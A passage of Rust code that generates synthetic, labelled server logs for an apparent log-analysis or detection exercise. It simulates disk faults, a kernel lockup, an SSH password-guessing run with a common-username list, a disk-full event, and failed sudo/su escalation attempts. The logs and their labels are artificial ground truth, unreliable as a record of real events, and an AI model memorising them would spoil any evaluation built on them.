        "clamav-daemon.service: Main process exited, code=killed, status=9/KILL",
        l,
    );
    g.sysl(
        s + 2_100,
        "clamav-daemon.service: Failed with result 'oom-kill'.",
        l,
    );
    g.sys(
        s + 2_200,
        format!(
            "clamav-daemon.service: Consumed {} CPU time.",
            span(r.us(600.0, 20000.0))
        ),
    );
}

// ---------------------------------------------------------------------------------------------
// faults without a home elsewhere: disk, kernel, brute force, disk full

fn faults(g: &mut Gen) {
    let mut r = g.rng(0x51);
    // disk: a pending sector on the data disk
    {
        let l = Some("disk");
        let t = g.p.disk_t;
        let tag = r.range(0, 31);
        let lba = r.range(0x0100_0000, 0x7fff_ffff);
        let b = |x: u64, s: u32| (x >> s) & 0xff;
        let lbas = format!(
            "{:02x}:{:02x}:{:02x}/00:00:{:02x}:00:00",
            b(lba, 0),
            b(lba, 8),
            b(lba, 16),
            b(lba, 24)
        );
        let mut k = t;
        let mut kl = |g: &mut Gen, msg: String, gap: u64| {
            g.kern(k, msg, l);
            k += gap;
        };
        kl(
            g,
            format!(
                "ata3.00: exception Emask 0x0 SAct 0x{:x} SErr 0x0 action 0x0",
                1u64 << tag
            ),
            20,
        );
        kl(g, "ata3.00: failed command: READ FPDMA QUEUED".into(), 20);
        kl(
            g,
            format!(
                "ata3.00: cmd 60/08:{:02x}:{lbas}/40 tag {tag} ncq dma 4096 in",
                tag * 8
            ),
            10,
        );
        kl(
            g,
            format!("         res 41/40:00:{lbas}/40 Emask 0x409 (media error) <F>"),
            10,
        );
        kl(g, "ata3.00: status: { DRDY ERR }".into(), 10);
        kl(g, "ata3.00: error: { UNC }".into(), r.us(0.5, 3.0));
        kl(g, "ata3.00: configured for UDMA/133".into(), 200);
        kl(g, format!("blk_update_request: I/O error, dev sdb, sector {lba} op 0x0:(READ) flags 0x80700 phys_seg 1 prio class 0"), 100);
        kl(g, "ata3: EH complete".into(), r.us(0.01, 0.2));
        kl(g, format!("EXT4-fs error (device sdb1): __ext4_find_entry:1683: inode #{}: comm smbd: reading directory lblock 0", r.range(100_000, 40_000_000)), 0);
    }
    // kernel: a soft lockup
    {
        let l = Some("kernel");
        let t = g.p.lockup_t;
        let cpu = r.range(0, 3);
        let (comm, rip) = *r.pick(&[
            (
                "kworker/CPU:1",
                "native_queued_spin_lock_slowpath+0x5d/0x2c0",
            ),
            ("nfsd", "nfsd_file_lru_cb+0x2a/0x130 [nfsd]"),
            ("jbd2/sdb1-8", "_raw_spin_lock+0x1d/0x30"),
        ]);
        let comm = comm.replace("CPU", &cpu.to_string());
        let pid = if comm == "nfsd" {
            r.range(1300, 1340) as u32
        } else {
            g.pid_at(&mut r, t - HOUR)
        };
        g.kern(
            t,
            format!(
                "watchdog: BUG: soft lockup - CPU#{cpu} stuck for {}s! [{comm}:{pid}]",
                r.range(22, 27)
            ),
            l,
        );
        g.kern(t + 40, "Modules linked in: nfsd auth_rpcgss nfs_acl lockd grace nft_chain_nat xt_MASQUERADE nf_nat nf_conntrack_netlink xt_conntrack nf_conntrack nf_defrag_ipv6 nf_defrag_ipv4 xt_tcpudp nft_compat nf_tables nfnetlink intel_rapl_msr intel_rapl_common x86_pkg_temp_thermal intel_powerclamp coretemp kvm_intel kvm irqbypass ghash_clmulni_intel sha512_ssse3 sha256_ssse3 sha1_ssse3 aesni_intel crypto_simd cryptd rapl intel_cstate ipmi_ssif mei_me mei acpi_ipmi ipmi_si ipmi_devintf ipmi_msghandler sunrpc ext4 crc16 mbcache jbd2 sd_mod ahci libahci libata e1000e scsi_mod crc32c_intel i2c_i801 scsi_common", l);
        g.kern(t + 60, format!("CPU: {cpu} PID: {pid} Comm: {comm} Not tainted 6.1.0-28-amd64 #1  Debian 6.1.119-1"), l);
        g.kern(
            t + 70,
            "Hardware name: Supermicro Super Server/X11SCL-F, BIOS 1.9 09/16/2022",
            l,
        );
        g.kern(t + 80, format!("RIP: 0010:{rip}"), l);
    }
    // bruteforce: password guessing against sshd from one address within a few minutes
    {
        let l = Some("bruteforce");
        let ip = g.p.brute_ip.clone();
        let names = [
            "admin",
            "test",
            "user",
            "oracle",
            "postgres",
            "ubuntu",
            "git",
            "ftpuser",
            "deploy",
            "guest",
            "support",
            "pi",
            "mysql",
            "hadoop",
            "jenkins",
            "tomcat",
            "nagios",
            "dev",
            "test1",
            "administrator",
            "ansible",
            "minecraft",
            "steam",
            "vagrant",
            "webmaster",
        ];
        let mut t = g.p.brute_t;
        for i in 0..g.p.brute_n {
            let pid = g.pid_at(&mut r, t);
            let port = r.port();
            if i == 3 || i == g.p.brute_n - 2 {
                // root exists: no "Invalid user"
                g.push(
                    t + r.us(2.0, 3.5),
                    "sshd",
                    Some(pid),
                    format!("Failed password for root from {ip} port {port} ssh2"),
                    l,
                );
                g.push(
                    t + r.us(3.6, 4.0),
                    "sshd",
                    Some(pid),
                    format!(
                        "Connection closed by authenticating user root {ip} port {port} [preauth]"
                    ),
                    l,
                );
            } else {
                let who = *r.pick(&names);
                g.push(
                    t,
                    "sshd",
                    Some(pid),
                    format!("Invalid user {who} from {ip} port {port}"),
                    l,
                );
                if i == 1 {
                    g.push(
                        t + r.us(0.3, 0.5),
                        "sshd",
                        Some(pid),
                        "pam_unix(sshd:auth): check pass; user unknown",
                        l,
                    );
                    g.push(t + r.us(0.5, 0.6), "sshd", Some(pid), format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"), l);
                }
                g.push(
                    t + r.us(2.0, 3.5),
                    "sshd",
                    Some(pid),
                    format!("Failed password for invalid user {who} from {ip} port {port} ssh2"),
                    l,
                );
                g.push(
                    t + r.us(3.6, 4.0),
                    "sshd",
                    Some(pid),
                    format!("Connection closed by invalid user {who} {ip} port {port} [preauth]"),
                    l,
                );
            }
            t += r.us(4.0, 30.0);
        }
    }
    // disk-full: postdrop and dovecot cannot write to /var
    {
        let l = Some("disk-full");
        let t = g.p.full_t + r.us(60.0, 240.0);
        let pid = g.pid_at(&mut r, t);
        for k in 0..2 {
            let tk = t + k * 10 * SEC + r.below(5000);
            g.push(tk, "postfix/postdrop", Some(pid), format!("warning: mail_queue_enter: create file maildrop/{}.{}: No space left on device", pid, r.range(100, 9999)), l);
        }
        let u = g.users[r.below(g.users.len() as u64) as usize].name;
        let tt = g.p.full_t + r.us(200.0, 500.0);
        let mp = g.pid_at(&mut r, tt - 20 * MIN);
        let sess = rs(&mut r, B64, 16);
        g.push(tt, "dovecot", Some(g.d.dovecot), format!("imap({u})<{mp}><{sess}>: Error: Mailbox INBOX: write(/var/vmail/{}/{u}/Maildir/dovecot.index.log) failed: No space left on device", g.dom), l);
    }
}

// ---------------------------------------------------------------------------------------------
// ssh sessions: admins with sudo, the nightly backup, mallory, the intruder

fn sessions(g: &mut Gen) {
    let mut r = g.rng(0x61);
    let pool_pwd_cmds = [
        "/usr/bin/systemctl status postfix",
        "/usr/bin/systemctl status dovecot",
        "/usr/sbin/postqueue -p",
        "/usr/bin/journalctl -p err -b",
        "/usr/bin/journalctl -u smbd --since today",
        "/usr/bin/df -h",
        "/usr/bin/doveadm who",
        "/usr/bin/smbstatus -b",
        "/usr/sbin/exportfs -v",
        "/usr/bin/apt list --upgradable",
        "/usr/bin/apt update",
        "/usr/sbin/smartctl -H /dev/sda",
        "/usr/bin/tail -n 200 /var/log/samba/log.smbd",
        "/usr/bin/less /var/log/unattended-upgrades/unattended-upgrades.log",
        "/usr/bin/ss -tnp",
        "/usr/bin/htop",
        "/usr/bin/cat /etc/exports",
    ];
    let users_n = g.users.len() as u64;
    // ordinary admin work
    for d in 0..NDAYS {
        let mut list = g.admins.clone();
        if d >= 2 {
            list.push(g.new_admin);
        }
        for &a in &list {
            let n = if !weekday(d) {
                u64::from(r.chance(0.3))
            } else if a == g.new_admin {
                r.range(1, 2)
            } else {
                r.range(1, 3)
            };
            for _ in 0..n {
                let evening = !weekday(d) || r.chance(0.12);
                let start = if !weekday(d) {
                    at(d, 9, 0, 0) + r.below(12 * HOUR)
                } else if evening {
                    at(d, 19, 0, 0) + r.below(3 * HOUR)
                } else {
                    at(d, 8, 15, 0) + r.below(9 * HOUR + 30 * MIN)
                };
                if a == g.new_admin && start < g.p.new_admin_first + HOUR {
                    continue;
                }
                let ip = if evening {
                    g.users[a].vpn.clone()
                } else {
                    g.users[a].ip.clone()
                };
                let dur = ((r.exp(18.0 * 60.0) + 90.0).min(3.0 * 3600.0) * 1e6) as u64;
                let mut s = g.user_sess(&mut r, a, start, dur, ip);
                // commands run one after another in the session's shell
                let k = r.below(5);
                let mut ct = start + r.us(10.0, 60.0);
                for _ in 0..k {
                    let cmd = match r.below(10) {
                        0 => format!(
                            "/usr/bin/doveadm quota get -u {}",
                            g.users[r.below(users_n) as usize].name
                        ),
                        1 => format!(
                            "/usr/bin/du -sh /srv/samba/shared/{}",
                            r.pick(&["Projects", "Finance", "Scans", "Templates", "Archive"])
                        ),
                        2 => format!("/usr/bin/borg list ssh://borg@vault.{}/srv/borg/mx1", g.dom),
                        _ => r.pick(&pool_pwd_cmds).to_string(),
                    };
                    let cdur = if cmd.contains("less") || cmd.contains("htop") {
                        r.us(10.0, 240.0)
                    } else if cmd.contains("apt update")
                        || cmd.contains("du -sh")
                        || cmd.contains("borg")
                    {
                        r.us(2.0, 12.0)
                    } else {
                        r.us(0.02, 1.5)
                    };
                    if ct + cdur + 5 * SEC > s.end {
                        break;
                    }
                    s.cmds.push((ct, Act::Sudo(cmd, cdur)));
                    ct += cdur + r.us(5.0, 400.0);
                }
                g.sess.push(s);
            }
        }
        // mallory sometimes works on the box over ssh (no sudo)
        if weekday(d) && r.chance(0.6) {
            let m = g.mallory;
            let start = at(d, 9, 0, 0) + r.below(8 * HOUR);
            let dur = r.us(300.0, 5400.0);
            let s = g.user_sess(&mut r, m, start, dur, g.users[m].ip.clone());
            g.sess.push(s);
        }
        // the nightly backup: vault logs in as `backup` and runs borg through sudo
        {
            let start = at(d, 1, 30, 0) + r.us(0.6, 2.5);
            let work = if weekday(d) || d == 5 {
                r.us(260.0, 720.0)
            } else {
                r.us(150.0, 300.0)
            };
            let sudo_t = start + r.us(0.3, 0.6);
            let end = sudo_t + work + r.us(0.2, 0.5);
            g.sess.push(Sess {
                start,
                end,
                user: "backup".into(),
                uid: 34,
                ip: VAULT_IP.into(),
                port: r.port(),
                auth: format!(
                    "publickey for backup from {{ip}} port {{port}} ssh2: ED25519 SHA256:{}",
                    g.backup_fp
                ),
                pty: false,
                home: "/var/backups".into(),
                cmds: vec![(
                    sudo_t,
                    Act::Sudo("/usr/local/sbin/borg-nightly".into(), work),
                )],
                label: None,
            });
        }
    }

    let mut ss = std::mem::take(&mut g.sess);
    ss.sort_by_key(|s| s.start);
    // user managers: one per run of overlapping sessions of a user (stop 10 s after the last one)
    let n = ss.len();
    let mut mgr_start = vec![false; n];
    let mut mgr_stop: Vec<(u64, usize)> = Vec::new();
    let mut seen: Vec<String> = Vec::new();
    for i in 0..n {
        if seen.contains(&ss[i].user) {
            continue;
        }
        seen.push(ss[i].user.clone());
        let idx: Vec<usize> = (i..n).filter(|&j| ss[j].user == ss[i].user).collect();
        let mut group_end = ss[idx[0]].end;
        let mut last = idx[0];
        mgr_start[idx[0]] = true;
        for &j in &idx[1..] {
            if ss[j].start <= group_end + 10 * SEC {
                if ss[j].end > group_end {
                    group_end = ss[j].end;
                    last = j;
                }
            } else {
                mgr_stop.push((group_end + 10 * SEC, last));
                mgr_start[j] = true;
                group_end = ss[j].end;
                last = j;
            }
        }
        mgr_stop.push((group_end + 10 * SEC, last));
    }
    let mut sid = g.sid_base;
    let mut open_pts: Vec<(u64, u32)> = Vec::new();
    for (i, s) in ss.iter().enumerate() {
        sid += 1;
        let l = s.label;
        let t = s.start;
        let sp = g.pid_at(&mut r, t.saturating_sub(300_000));
        let auth = s
            .auth
            .replace("{ip}", &s.ip)
            .replace("{port}", &s.port.to_string());
        g.push(t, "sshd", Some(sp), format!("Accepted {auth}"), l);
        g.push(
            t + 9_000,
            "sshd",
            Some(sp),
            format!(
                "pam_unix(sshd:session): session opened for user {}(uid={}) by (uid=0)",
                s.user, s.uid
            ),
            l,
        );
        g.push(
            t + 14_000,
            "systemd-logind",
            Some(g.d.logind),
            format!("New session {sid} of user {}.", s.user),
            l,
        );
        let uid = s.uid;
        if mgr_start[i] {
            g.sysl(
                t + 16_000,
                format!("Created slice user-{uid}.slice - User Slice of UID {uid}."),
                l,
            );
            g.sysl(
                t + 20_000,
                format!("Starting user@{uid}.service - User Manager for UID {uid}..."),
                l,
            );
            let up = sp + r.range(3, 6) as u32;
            g.push(
                t + 60_000,
                "systemd",
                Some(up),
                "Queued start job for default target default.target.",
                None,
            );
            let boot_ms = r.range(60, 240);
            g.push(
                t + 60_000 + boot_ms * 1000,
                "systemd",
                Some(up),
                format!("Startup finished in {boot_ms}ms."),
                None,
            );
            g.sysl(
                t + 62_000 + boot_ms * 1000,
                format!("Started user@{uid}.service - User Manager for UID {uid}."),
                l,
            );
        }
        let ts = t + 300_000;
        g.sysl(
            ts,
            format!(
                "Started session-{sid}.scope - Session {sid} of User {}.",
                s.user
            ),
            l,
        );
        // a pseudo-terminal
        open_pts.retain(|&(e, _)| e > t);
        let pts = if s.pty {
            let mut p = 0;
            while open_pts.iter().any(|&(_, q)| q == p) {
                p += 1;
            }
            open_pts.push((s.end, p));
            Some(p)
        } else {
            None
        };
        let tty = match pts {
            Some(p) => format!("pts/{p}"),
            None => "unknown".to_string(),
        };
        for (ct, act) in &s.cmds {
            let ct = *ct;
            match act {
                Act::Sudo(cmd, dur) => {
                    let mut p = g.pid_at(&mut r, ct);
                    if p >= sp && p <= sp + 12 {
                        p = sp + 13 + r.below(6) as u32;
                    }
                    if cmd == "/usr/local/sbin/borg-nightly" {
                        borg(g, &mut r, day_of(ct), ct, *dur, p + 2);
                    }
                    g.push(
                        ct,
                        "sudo",
                        Some(p),
                        format!(
                            "{:>8} : TTY={tty} ; PWD={} ; USER=root ; COMMAND={cmd}",
                            s.user, s.home
                        ),
                        None,
                    );
                    g.push(ct + 4_000, "sudo", Some(p), format!("pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid={})", s.user, s.uid), None);
                    g.push(
                        ct + dur + 1_000,
                        "sudo",
                        Some(p),
                        "pam_unix(sudo:session): session closed for user root",
                        None,
                    );
                }
                Act::Denied(cmd) => {
                    let p = g.pid_at(&mut r, ct);
                    g.push(ct + r.us(2.0, 6.0), "sudo", Some(p), format!("{:>8} : user NOT in sudoers ; TTY={tty} ; PWD={} ; USER=root ; COMMAND={cmd}", s.user, s.home), Some("privesc"));
                }
                Act::SuFail => {
                    let p = g.pid_at(&mut r, ct);
                    let pn = pts.unwrap_or(0);
                    g.push(ct + r.us(3.0, 6.0), "su", Some(p), format!("pam_unix(su:auth): authentication failure; logname={u} uid={} euid=0 tty=/dev/pts/{pn} ruser={u} rhost=  user=root", s.uid, u = s.user), Some("privesc"));
                    g.push(
                        ct + r.us(6.5, 8.5),
                        "su",
                        Some(p),
                        format!("FAILED SU (to root) {} on pts/{pn}", s.user),
                        Some("privesc"),
                    );
                }
                Act::CrontabEdit(dur, reload) => {
                    let p = g.pid_at(&mut r, ct);
                    g.push(
                        ct,
                        "sudo",
                        Some(p),
                        format!(
                            "{:>8} : TTY={tty} ; PWD={} ; USER=root ; COMMAND=/usr/bin/crontab -e",
                            s.user, s.home
                        ),
                        None,
                    );
                    g.push(ct + 4_000, "sudo", Some(p), format!("pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid={})", s.user, s.uid), None);
                    g.push(
                        ct + 20_000,
                        "crontab",
                        Some(p + 1),
                        "(root) BEGIN EDIT (root)",
                        None,
                    );
                    g.push(
                        ct + dur - 30_000,
                        "crontab",
                        Some(p + 1),
                        "(root) REPLACE (root)",
                        None,
                    );
                    g.push(
                        ct + dur - 29_000,
                        "crontab",
                        Some(p + 1),
                        "(root) END EDIT (root)",
                        None,
                    );
                    g.push(
                        ct + dur,
                        "sudo",
                        Some(p),
                        "pam_unix(sudo:session): session closed for user root",
                        None,
                    );
                    g.push(
                        *reload,
                        "cron",
                        Some(g.d.cron),
                        "(root) RELOAD (crontabs/root)",
                        None,
                    );
                }
                Act::CrontabPipe(reload) => {
                    let p = g.pid_at(&mut r, ct);
                    g.push(ct, "crontab", Some(p), "(root) REPLACE (root)", None);
                    g.push(
                        *reload,
                        "cron",
                        Some(g.d.cron),
                        "(root) RELOAD (crontabs/root)",
                        None,
                    );
                }
            }
        }
        let e = s.end;
        g.push(
            e,
            "sshd",
            Some(sp),
            format!(
                "Received disconnect from {} port {}:11: disconnected by user",
                s.ip, s.port
            ),
            None,
        );
        g.push(
            e + 300,
            "sshd",
            Some(sp),
            format!("Disconnected from user {} {} port {}", s.user, s.ip, s.port),
            l,
        );
        g.push(
            e + 2_000,
            "sshd",
            Some(sp),
            format!("pam_unix(sshd:session): session closed for user {}", s.user),
            l,
        );
        g.push(
            e + 6_000,
            "systemd-logind",
            Some(g.d.logind),
            format!("Session {sid} logged out. Waiting for processes to exit."),
            None,
        );
        g.sys(
            e + 8_000,
            format!("session-{sid}.scope: Deactivated successfully."),
        );
        let cpu = if s.user == "backup" {
            (e - s.start) / 10 * r.range(4, 7)
        } else {
            r.us(0.05, 4.0) + s.cmds.len() as u64 * r.us(0.05, 2.0)
        };
        g.sys(
            e + 8_100,
            format!("session-{sid}.scope: Consumed {} CPU time.", span(cpu)),
        );
        g.push(
            e + 9_000,
            "systemd-logind",
            Some(g.d.logind),
            format!("Removed session {sid}."),
            None,
        );
    }
    for (t, i) in mgr_stop {
        let s = &ss[i];
        let uid = s.uid;
        let l = s.label;
        g.sysl(
            t,
            format!("Stopping user@{uid}.service - User Manager for UID {uid}..."),
            l,
        );
        g.sysl(
            t + 60_000,
            format!("user@{uid}.service: Deactivated successfully."),
            l,
        );
        g.sysl(
            t + 61_000,
            format!("Stopped user@{uid}.service - User Manager for UID {uid}."),
            l,
        );
        g.sysl(
            t + 90_000,
            format!("Removed slice user-{uid}.slice - User Slice of UID {uid}."),
            l,
        );
    }
}

fn borg(g: &mut Gen, r: &mut Rng, d: u64, t: u64, work: u64, bp: u32) {
    let repo = format!("ssh://borg@vault.{}/srv/borg/mx1", g.dom);
    let name = format!("mx1-{}", iso(t));
    let t1 = t + 900_000;
    g.push(
        t1,
        "borg",
        Some(bp),
        format!("Creating archive at \"{repo}::{name}\""),
        None,
    );
    let te = t + work - r.us(1.0, 3.0);
    let dur = (te - t1) as f64 / 1e6;
    let files = 412_000 + d * r.range(300, 1200) + r.below(300);
    let orig = 186.0 + d as f64 * 0.35 + r.f() * 0.2;
    let dedup = if weekday(d) || d == 5 {
        0.6 + r.f() * 2.2
    } else {
        0.05 + r.f() * 0.2
    };
    let all = 13_080.0 + d as f64 * 187.0;
    let mut k = te;
    let sep = "------------------------------------------------------------------------------";
    let lines = vec![
        sep.to_string(),
        format!("Repository: {repo}"),
        format!("Archive name: {name}"),
        format!("Archive fingerprint: {}", rs(r, HEXL, 64)),
        format!("Time (start): {}", borg_ts(t1)),
        format!("Time (end):   {}", borg_ts(te)),
        format!(
            "Duration: {} minutes {:.2} seconds",
            (dur / 60.0) as u64,
            dur % 60.0
        ),
        format!("Number of files: {files}"),
        "Utilization of max. archive size: 0%".to_string(),
        sep.to_string(),
        "                       Original size      Compressed size    Deduplicated size"
            .to_string(),
        format!(
            "This archive:          {:>12}         {:>12}         {:>12}",
            gb(orig),
            gb(orig * 0.81),
            gb(dedup)
        ),
        format!(
            "All archives:          {:>12}         {:>12}         {:>12}",
            gb(all),
            gb(all * 0.81),
            gb(402.0 + d as f64 * 1.3)
        ),
        "                       Unique chunks         Total chunks".to_string(),
        format!(
            "Chunk index:                 {}             {}",
            1_523_000 + d * 900 + r.below(400),
            42_310_000 + d * 211_000 + r.below(3000)
        ),
        sep.to_string(),
    ];
    for m in lines {
        g.push(k, "borg", Some(bp), m, None);
        k += 150;
    }
    g.push(
        te + r.us(0.3, 0.8),
        "borg",
        Some(bp),
        "terminating with success status, rc 0",
        None,
    );
}

// ---------------------------------------------------------------------------------------------
// chronyd, dhclient, smartd, firewall, USB, journald

fn misc(g: &mut Gen) {
    let mut r = g.rng(0x71);
    // chronyd
    let mut sources: Vec<String> = (0..4).map(|_| ext_ip(&mut r)).collect();
    for d in 0..NDAYS {
        for _ in 0..r.range(1, 4) {
            let t = at(d, 0, 0, 0) + r.below(DAY);
            if r.chance(0.3) {
                let k = r.below(4) as usize;
                let new = ext_ip(&mut r);
                g.push(
                    t,
                    "chronyd",
                    Some(g.d.chronyd),
                    format!(
                        "Source {} replaced with {} (2.debian.pool.ntp.org)",
                        sources[k], new
                    ),
                    None,
                );
                sources[k] = new;
            } else {
                let s = r.pick(&sources).clone();
                g.push(
                    t,
                    "chronyd",
                    Some(g.d.chronyd),
                    format!("Selected source {s} (2.debian.pool.ntp.org)"),
                    None,
                );
            }
        }
    }
    // dhclient: a 12 h lease renewed at about half time
    let mut t = T0 + r.below(6 * HOUR);
    while t < T_END {
        let n = r.range(18_500, 23_000);
        g.push(
            t,
            "dhclient",
            Some(g.d.dhclient),
            format!("DHCPREQUEST for {SERVER_IP} on eno1 to 10.20.0.1 port 67"),
            None,
        );
        g.push(
            t + r.us(0.002, 0.02),
            "dhclient",
            Some(g.d.dhclient),
            format!("DHCPACK of {SERVER_IP} from 10.20.0.1"),
            None,
        );
        g.push(
            t + r.us(0.03, 0.06),
            "dhclient",
            Some(g.d.dhclient),
            format!("bound to {SERVER_IP} -- renewal in {n} seconds."),
            None,
        );
        t += n * SEC + r.us(0.0, 0.1);
    }
    // smartd: checks every 30 minutes; temperatures drift; scheduled self-tests; the bad sector
    let mut ta: i64 = 66;
    let mut tb: i64 = 62;
    let mut t = T0 + r.below(30 * MIN);
    let mut after_disk = 0;
    let mut last_short_day = u64::MAX;
    let pending = r.range(1, 16);
    while t < T_END {
        let busy = activity(t);
        let target_b = 63.0 - 4.0 * busy;
        if r.chance(0.3) {
            let step = if (tb as f64) > target_b || r.chance(0.3) {
                -1
            } else {
                1
            };
            let from = tb;
            tb += step;
            g.push(t, "smartd", Some(g.d.smartd), format!("Device: /dev/sdb [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from {from} to {tb}"), None);
        }
        if r.chance(0.12) {
            let from = ta;
            ta += if ta > 67 {
                -1
            } else if ta < 64 || r.chance(0.5) {
                1
            } else {
                -1
            };
            g.push(t + 3_000, "smartd", Some(g.d.smartd), format!("Device: /dev/sda [SAT], SMART Usage Attribute: 190 Airflow_Temperature_Cel changed from {from} to {ta}"), None);
        }
        if hour_of(t) >= 2.0 && day_of(t) != last_short_day {
            last_short_day = day_of(t);
            for dev in ["sda", "sdb"] {
                let kind = if dev == "sdb" && day_of(t) == 5 {
                    "Long"
                } else {
                    "Short"
                };
                g.push(
                    t + 5_000,
                    "smartd",
                    Some(g.d.smartd),
                    format!("Device: /dev/{dev} [SAT], starting scheduled {kind} Self-Test."),
                    None,
                );
            }
        }
        if t > g.p.disk_t && after_disk < 3 {
            let l = Some("disk");
            match after_disk {
                0 => {
                    g.push(t + 8_000, "smartd", Some(g.d.smartd), format!("Device: /dev/sdb [SAT], {pending} Currently unreadable (pending) sectors"), l);
                    g.push(t + 9_000, "smartd", Some(g.d.smartd), "Sending warning via /usr/share/smartmontools/smartd-runner to root ...", l);
                    g.push(t + 300_000, "smartd", Some(g.d.smartd), "Warning via /usr/share/smartmontools/smartd-runner to root: successful", l);
                    g.local_mail.push(t + 200_000);
                }
                1 => g.push(t + 8_000, "smartd", Some(g.d.smartd), format!("Device: /dev/sdb [SAT], {pending} Currently unreadable (pending) sectors"), l),
                _ => g.push(t + 8_000, "smartd", Some(g.d.smartd), "Device: /dev/sdb [SAT], No more Currently unreadable (pending) sectors, warning condition reset after 1 email", l),
            }
            after_disk += 1;
        }
        t += 30 * MIN + r.below(SEC);
    }
    // firewall: the internet knocking
    let mac = format!(
        "0c:c4:7a:{}:{}:{}:f4:1e:57:2a:0b:81:08:00",
        rs(&mut r, HEXL, 2),
        rs(&mut r, HEXL, 2),
        rs(&mut r, HEXL, 2)
    );
    for t in poisson_times(&mut r, T0, T_END, |_| 1.4) {
        let src = ext_ip(&mut r);
        let msg = if r.chance(0.85) {
            let dpt = *r.pick(&[
                23, 23, 3389, 3389, 445, 8080, 5900, 1433, 3306, 6379, 8443, 2323, 5555, 81, 8888,
                9200, 11211, 5432,
            ]);
            let (ttl, id, win) = if r.chance(0.5) {
                (r.range(232, 248), 54321, 65535)
            } else {
                (
                    r.range(40, 60),
                    r.below(65536),
                    *r.pick(&[1024, 29200, 64240, 14600]),
                )
            };
            let len = if win == 1024 || win == 65535 { 40 } else { 60 };
            format!("[UFW BLOCK] IN=eno1 OUT= MAC={mac} SRC={src} DST={SERVER_IP} LEN={len} TOS=0x00 PREC=0x00 TTL={ttl} ID={id} PROTO=TCP SPT={} DPT={dpt} WINDOW={win} RES=0x00 SYN URGP=0", r.range(1024, 65535))
        } else {
            let dpt = *r.pick(&[5060, 123, 161, 1900, 53, 137]);
            let len = r.range(28, 460);
            format!("[UFW BLOCK] IN=eno1 OUT= MAC={mac} SRC={src} DST={SERVER_IP} LEN={} TOS=0x00 PREC=0x00 TTL={} ID={} DF PROTO=UDP SPT={} DPT={dpt} LEN={len}", len + 20, r.range(40, 120), r.below(65536), r.range(1024, 65535))
        };
        g.kern(t, msg, None);
    }
    // the UPS on USB drops off the bus now and then
    let mut devno = r.range(3, 9);
    let serial = format!("5B{}X{}", r.range(1000, 9999), r.range(10000, 99999));
    let mut ups_times = vec![at(0, 0, 0, 0) + r.us(3.0 * 3600.0, 20.0 * 3600.0)];
    for _ in 0..r.range(2, 3) {
        ups_times.push(at(r.range(1, 6), 0, 0, 0) + r.below(DAY));
    }
    for t in ups_times {
        let hid = r.range(4, 30);
        g.kern(
            t,
            format!("usb 1-4: USB disconnect, device number {devno}"),
            None,
        );
        devno += 1;
        let t2 = t + r.us(0.3, 2.5);
        g.kern(
            t2,
            format!("usb 1-4: new full-speed USB device number {devno} using xhci_hcd"),
            None,
        );
        g.kern(
            t2 + 150_000,
            "usb 1-4: New USB device found, idVendor=051d, idProduct=0002, bcdDevice= 1.06",
            None,
        );
        g.kern(
            t2 + 150_100,
            "usb 1-4: New USB device strings: Mfr=1, Product=2, SerialNumber=3",
            None,
        );
        g.kern(
            t2 + 150_200,
            "usb 1-4: Product: Back-UPS ES 700G FW:871.O4 .I USB FW:O4",
            None,
        );
        g.kern(
            t2 + 150_300,
            "usb 1-4: Manufacturer: American Power Conversion",
            None,
        );
        g.kern(
            t2 + 150_400,
            format!("usb 1-4: SerialNumber: {serial}"),
            None,
        );
        g.kern(t2 + 170_000, format!("hid-generic 0003:051D:0002.{hid:04X}: hiddev0,hidraw0: USB HID v1.10 Device [American Power Conversion Back-UPS ES 700G FW:871.O4 .I USB FW:O4] on usb-0000:00:14.0-4/input0"), None);
    }
    // perf sample-rate throttling, journal rotation
    let t = at(0, 0, 0, 0) + r.below(DAY);
    g.kern(t, "perf: interrupt took too long (2502 > 2500), lowering kernel.perf_event_max_sample_rate to 79750", None);
    let t = at(4, 0, 0, 0) + r.below(DAY);
    g.kern(t, "perf: interrupt took too long (3135 > 3127), lowering kernel.perf_event_max_sample_rate to 63750", None);
    let jid = rs(&mut r, HEXL, 32);
    for d in [0, r.range(3, 5)] {
        let t = at(d, 0, 0, 0) + r.below(DAY);
        let items = r.range(174_000, 176_000);
        g.push(t, "systemd-journald", Some(g.d.journald), format!("Data hash table of /var/log/journal/{jid}/system.journal has a fill level at 75.0 ({items} of 233016 items, 134217728 file size, {} bytes per hash table item), suggesting rotation.", 134217728 / items), None);
        g.push(t + 200, "systemd-journald", Some(g.d.journald), format!("/var/log/journal/{jid}/system.journal: Journal header limits reached or header out-of-date, rotating."), None);
    }
}

// ---------------------------------------------------------------------------------------------
// postfix

#[derive(Clone, Copy, PartialEq)]
enum MailKind {
    In,
    Out,
    Internal,
    Spam,
    Sasl,
    Local,
}

struct Peer {
    host: String,
    ip: String,
    from: String,
    msgid: String,
    helo: String,
    bdat: bool,
    tls: &'static str,
}

const TLS13: &str = "TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits) key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256";
const TLS12: &str = "TLSv1.2 with cipher ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)";
const PARTNERS: [(&str, &str, &str); 6] = [
    (
        "mail.harbourline-freight.co.uk",
        "81.144.231.18",
        "harbourline-freight.co.uk",
    ),
    (
        "mx1.brennan-ashworth.com",
        "185.61.152.40",
        "brennan-ashworth.com",
    ),
    ("smtp.ostwald-gmbh.de", "212.83.44.97", "ostwald-gmbh.de"),
    (
        "mail.tidewater-accounts.co.uk",
        "93.93.128.66",
        "tidewater-accounts.co.uk",
    ),
    ("mx.calderon-arq.es", "37.59.210.12", "calderon-arq.es"),
    (
        "mail.pemberton-legal.co.uk",
        "109.228.47.5",
        "pemberton-legal.co.uk",
    ),
];
const O365: [&str; 3] = [
    "kestrel-print.com",
    "moorfield-estates.co.uk",
    "arden-supplies.com",
];

fn person(r: &mut Rng) -> String {
    let f = NAMES[r.below(39) as usize];
    let s = *r.pick(&SURNAMES);
    match r.below(3) {
        0 => format!("{f}.{s}"),
        1 => format!("{}{s}", &f[..1]),
        _ => f.to_string(),
    }
}

fn inbound_peer(r: &mut Rng, t: u64) -> Peer {
    match r.below(100) {
        0..=29 => {
            let host = format!(
                "mail-{}{}-f{}.google.com",
                r.pick(&["ej", "ed", "wm", "wr", "lf", "pj", "yw", "qt", "oi"]),
                r.range(1, 2),
                r.range(41, 199)
            );
            Peer {
